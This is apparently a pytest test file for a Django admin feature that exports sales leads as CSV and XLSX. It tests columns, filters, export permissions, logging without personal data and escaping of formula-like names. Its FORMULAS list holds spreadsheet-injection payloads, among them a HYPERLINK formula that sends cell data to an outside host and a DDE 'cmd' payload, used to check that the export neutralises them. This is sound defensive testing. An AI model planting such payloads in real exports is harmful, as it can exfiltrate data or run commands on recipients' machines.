"""Lead export: CSV (streamed) and XLSX, selected or filtered, only with the export permission."""

import codecs
import csv
import io
import logging
from datetime import UTC, datetime

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.auth.models import Permission
from django.urls import reverse
from import_export.formats.base_formats import CSV

from conversations.export import stream_contacts_csv
from conversations.models import Contact, Handoff
from conversations.resources import ContactResource
from core.spreadsheets import UTF8_BOM
from tests.admin_forms import change_form_data
from tests.factories import ContactFactory, UserFactory

CHANGELIST = reverse("admin:conversations_contact_changelist")
EXPORT = reverse("admin:conversations_contact_export")
#: The resource of the admin registered for leads: the leads' own, extended by the apps above.
RESOURCE = admin.site.get_model_admin(Contact).resource_classes[0]
#: The export form's names for the resource's fields.
PREFIX = RESOURCE.__name__.lower()
FIELDS = [f"{PREFIX}_{name}" for name in RESOURCE._meta.fields]
#: The leads' own columns (`ContactResource`), then what need discovery adds.
OWN_HEADERS = [
    "ID",
    "Name",
    "Username",
    "Phone",
    "E-mail",
    "Status",
    "Source",
    "Created",
    "Last message",
    "Language",
    "Personal data consent",
    "Privacy policy version",
    "Bot",
    "Handed to operators",
    "Answered by operators",
]
HEADERS = [*OWN_HEADERS, "Interested in"]
#: Names a Telegram user can pick that spreadsheets would run (no tab or CR: XML changes those).
FORMULAS = ['==HYPERLINK("//e.tk/"&D3)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", " =1+1"]


@pytest.fixture(autouse=True)
def english(settings):
    settings.LANGUAGE_CODE = "en"


def export_form(file_format, fields=FIELDS, **extra):
    return {"format": file_format, "resource": "0", **dict.fromkeys(fields, "on"), **extra}


def xlsx_sheet(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def csv_rows(response):
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


@pytest.fixture
def leads(db):
    anna = ContactFactory(
        username="anna_k",
        first_name="Anna",
        last_name="Karenina",
        phone="+79991234567",
        email="anna@example.com",
        status=Contact.Status.QUALIFIED,
        source="ads",
        consent_at=datetime(2025, 3, 1, 9, 30, tzinfo=UTC),
        consent_policy_version="2025-02",
    )
    boris = ContactFactory(username="boris", first_name="Boris", last_name="", source="site")
    return anna, boris


def test_csv_export_has_the_resource_headers_and_rows(admin_client, leads):
    anna, _boris = leads

    rows = csv_rows(admin_client.post(EXPORT, export_form("0")))

    assert rows[0] == HEADERS
    anna_row = next(row for row in rows[1:] if row[2] == "anna_k")
    assert anna_row[:7] == [
        str(anna.pk),
        "Anna Karenina",
        "anna_k",
        "+79991234567",
        "anna@example.com",
        "Qualified",
        "ads",
    ]
    assert anna_row[10:12] == ["2025-03-01 12:30:00", "2025-02"]
    assert len(rows) == 3


def test_the_export_counts_each_leads_handoffs_and_those_operators_answered(admin_client, leads):
    anna, _boris = leads
    answered = datetime(2025, 3, 2, 10, 0, tzinfo=UTC)
    Handoff.objects.create(contact=anna, reason="person", state="closed", first_reply_at=answered)
    Handoff.objects.create(contact=anna, reason="assistant")

    rows = csv_rows(admin_client.post(EXPORT, export_form("0")))

    by_username = {row[2]: row for row in rows[1:]}
    column = HEADERS.index("Handed to operators")
    assert by_username["anna_k"][column : column + 2] == ["2", "1"]
    assert by_username["boris"][column : column + 2] == ["", ""]


def test_streamed_csv_matches_import_export_output(admin_client, leads):
    ContactFactory(first_name="=HYPERLINK(1)", last_name='Quote "me", please', email="")
    expected = CSV().export_data(RESOURCE().export(Contact.objects.all()))

    response = admin_client.post(EXPORT, export_form("0"))

    assert b"".join(response.streaming_content).decode() == UTF8_BOM + expected


def test_csv_starts_with_the_byte_order_mark_excel_needs_for_utf8(admin_client, db):
    ContactFactory(first_name="Анна", last_name="Каренина")

    content = b"".join(admin_client.post(EXPORT, export_form("0")).streaming_content)

    assert content.startswith(codecs.BOM_UTF8)
    assert "Анна Каренина" in content.decode("utf-8-sig")


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_looks_like_a_formula_is_text_in_the_csv(admin_client, db, name):
    ContactFactory(first_name=name, last_name="")

    rows = csv_rows(admin_client.post(EXPORT, export_form("0")))

    assert rows[1][1] == "'" + name


def test_a_source_that_looks_like_a_formula_is_text_in_the_csv(admin_client, db):
    ContactFactory(source="-2+3")

    rows = csv_rows(admin_client.post(EXPORT, export_form("0")))

    assert rows[1][6] == "'-2+3"


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_that_looks_like_a_formula_is_a_text_cell_in_xlsx(admin_client, db, name):
    ContactFactory(first_name=name, last_name="")

    name_cell = xlsx_sheet(admin_client.post(EXPORT, export_form("1")))["B2"]

    assert (name_cell.value, name_cell.data_type) == ("'" + name, "s")


def test_a_name_with_control_characters_still_exports_to_xlsx(admin_client, db):
    ContactFactory(first_name="Анна\x07\x1b", last_name="")

    response = admin_client.post(EXPORT, export_form("1"))

    assert response.status_code == 200
    assert xlsx_sheet(response)["B2"].value.startswith("Анна")


def test_xlsx_keeps_the_id_a_number_and_times_dates(admin_client, leads):
    anna, _boris = leads

    row = next(
        row
        for row in xlsx_sheet(admin_client.post(EXPORT, export_form("1"))).iter_rows(min_row=2)
        if row[2].value == "anna_k"
    )

    assert (row[0].value, row[0].data_type) == (anna.pk, "n")
    assert (row[10].value, row[10].data_type) == (datetime(2025, 3, 1, 12, 30), "d")


def test_xlsx_times_are_date_cells_in_the_project_zone_to_the_second(admin_client, db):
    ContactFactory(consent_at=datetime(2025, 3, 1, 9, 30, 15, 654321, tzinfo=UTC))

    consent = xlsx_sheet(admin_client.post(EXPORT, export_form("1")))["K2"]

    assert (consent.value, consent.data_type) == (datetime(2025, 3, 1, 12, 30, 15), "d")


def test_the_export_form_speaks_only_the_admin_language(admin_client, db, settings):
    settings.LANGUAGE_CODE = "ru"

    page = admin_client.get(EXPORT).content.decode()

    assert "Выбрать все" in page
    assert "Select all" not in page
    assert f'<label for="id_{PREFIX}_id">ID</label>' in page
    assert f'<label for="id_{PREFIX}_phone">Телефон</label>' in page


def test_csv_export_respects_the_changelist_filter(admin_client, leads):
    response = admin_client.post(f"{EXPORT}?source=site", export_form("0"))

    assert [row[2] for row in csv_rows(response)[1:]] == ["boris"]


def test_csv_export_keeps_only_ticked_columns(admin_client, leads):
    fields = [f"{PREFIX}_username", f"{PREFIX}_phone"]

    rows = csv_rows(admin_client.post(EXPORT, export_form("0", fields=fields)))

    assert rows[0] == ["Username", "Phone"]
    assert ["anna_k", "+79991234567"] in rows


def test_export_action_offers_the_form_for_selected_leads(admin_client, leads):
    anna, _boris = leads

    response = admin_client.post(
        CHANGELIST, {"action": "export_admin_action", "_selected_action": [anna.pk]}
    )

    assert response.status_code == 200
    assert f'value="{anna.pk}"' in response.content.decode()


def test_selected_leads_export_only_those(admin_client, leads):
    anna, _boris = leads

    response = admin_client.post(EXPORT, export_form("0", export_items=[anna.pk]))

    assert [row[2] for row in csv_rows(response)[1:]] == ["anna_k"]


def test_xlsx_export_opens_with_the_rows(admin_client, leads):
    response = admin_client.post(EXPORT, export_form("1"))

    rows = list(xlsx_sheet(response).iter_rows(values_only=True))
    assert list(rows[0]) == HEADERS
    assert {row[2] for row in rows[1:]} == {"anna_k", "boris"}


def test_export_is_logged_without_personal_data(admin_client, staff_user, leads, caplog):
    with caplog.at_level(logging.INFO, logger="conversations.export"):
        b"".join(admin_client.post(EXPORT, export_form("0")).streaming_content)
        admin_client.post(EXPORT, export_form("1"))

    messages = [r.getMessage() for r in caplog.records if r.name == "conversations.export"]
    assert messages == [
        f"leads exported: count=2 format=csv user_id={staff_user.pk}",
        f"leads exported: count=2 format=xlsx user_id={staff_user.pk}",
    ]


@pytest.fixture
def clerk(client, db):
    """Staff who may see and edit leads but not take them out."""
    user = UserFactory(username="clerk")
    user.user_permissions.add(
        *Permission.objects.filter(codename__in=["view_contact", "change_contact"])
    )
    client.force_login(user)
    return client


def test_staff_without_export_permission_see_no_export(clerk, leads):
    response = clerk.get(CHANGELIST)

    assert EXPORT not in response.content.decode()
    assert "export_admin_action" not in response.content.decode()


def test_a_forged_export_action_from_staff_without_the_permission_exports_nothing(clerk, leads):
    anna, _boris = leads

    response = clerk.post(
        CHANGELIST, {"action": "export_admin_action", "_selected_action": [anna.pk]}
    )

    assert response.status_code == 200
    assert EXPORT not in response.content.decode()


def test_staff_without_export_permission_get_403(clerk, leads):
    assert clerk.get(EXPORT).status_code == 403
    assert clerk.post(EXPORT, export_form("0")).status_code == 403


def test_staff_with_export_permission_export(clerk, leads):
    user = clerk.session["_auth_user_id"]
    UserFactory._meta.model.objects.get(pk=user).user_permissions.add(
        Permission.objects.get(codename="export_contact")
    )

    response = clerk.post(EXPORT, export_form("0"))

    assert len(csv_rows(response)) == 3


def test_export_from_the_change_form_checks_the_permission(clerk, leads, settings):
    settings.IMPORT_EXPORT_SKIP_ADMIN_ACTION_EXPORT_UI = True
    anna, _boris = leads
    url = reverse("admin:conversations_contact_change", args=[anna.pk])

    response = clerk.post(url, {**change_form_data(clerk.get(url)), "_export-item": "1"})

    assert response.status_code == 403


def test_csv_leaves_in_chunks(admin_client, leads, monkeypatch):
    monkeypatch.setattr("conversations.export.CHUNK_SIZE", 1)

    chunks = list(admin_client.post(EXPORT, export_form("0")).streaming_content)

    assert [chunk.count(b"\n") for chunk in chunks] == [2, 1, 0]


def test_the_leads_own_resource_exports_their_own_columns_as_import_export_does(leads):
    queryset = Contact.objects.all()

    counted = []

    chunks = stream_contacts_csv(queryset, resource=ContactResource(), on_complete=counted.append)

    content = b"".join(chunks).decode()
    assert content == UTF8_BOM + CSV().export_data(ContactResource().export(queryset))
    assert next(csv.reader(io.StringIO(content.removeprefix(UTF8_BOM)))) == OWN_HEADERS
    assert counted == [2]
